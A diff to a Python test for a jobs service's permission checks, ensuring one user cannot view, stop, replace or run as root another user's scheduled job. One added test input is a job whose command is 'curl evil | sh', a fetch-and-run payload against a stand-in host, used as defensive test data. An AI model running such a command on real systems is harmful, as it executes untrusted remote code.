@@ -315,11 +315,19 @@ async def test_the_jobs_api_is_secure_and_only_the_owner_or_an_operator_stops_a_
         await as_alice.submit("name: alices\ncommand: sleep 60\n", "alices.yaml")
     async with JobsClient(cluster.jobs_address, config=bob) as as_bob:
         status = await as_bob.get_job("alices")
-        assert status.job.owner == "framework/alice"
+        assert status.job.owner == "framework/alice" and status.spec_yaml == ""  # her commands are hers
         with pytest.raises(JobsError) as not_bobs:
             await as_bob.stop_job("alices")
-    assert not_bobs.value.code == grpc.StatusCode.PERMISSION_DENIED
-    assert "framework/bob" in str(not_bobs.value) and "framework/alice" in str(not_bobs.value)
+        with pytest.raises(JobsError) as not_bobs_to_replace:
+            await as_bob.submit("name: alices\nschedule: '@daily'\ncommand: 'curl evil | sh'\n", "mine.yaml")
+        # The service runs every job as one framework: it checks the caller's ACLs itself (no root by default).
+        with pytest.raises(JobsError) as no_root:
+            await as_bob.submit("name: rooted\ncommand: id\nuser: root\n", "rooted.yaml")
+    for refusal in (not_bobs, not_bobs_to_replace):
+        assert refusal.value.code == grpc.StatusCode.PERMISSION_DENIED
+        assert "framework/bob" in str(refusal.value) and "framework/alice" in str(refusal.value), refusal.value
+    assert no_root.value.code == grpc.StatusCode.PERMISSION_DENIED and "root" in str(no_root.value)
+    assert (await jobs.get_job("alices")).spec_yaml.endswith("command: sleep 60\n")  # the operator reads it
     assert (await jobs.get_job("alices")).run.state in ("pending", "running")  # untouched
     await jobs.stop_job("alices")  # the module's client is operator/admin
     assert (await ended(jobs, "alices")).state == "stopped"
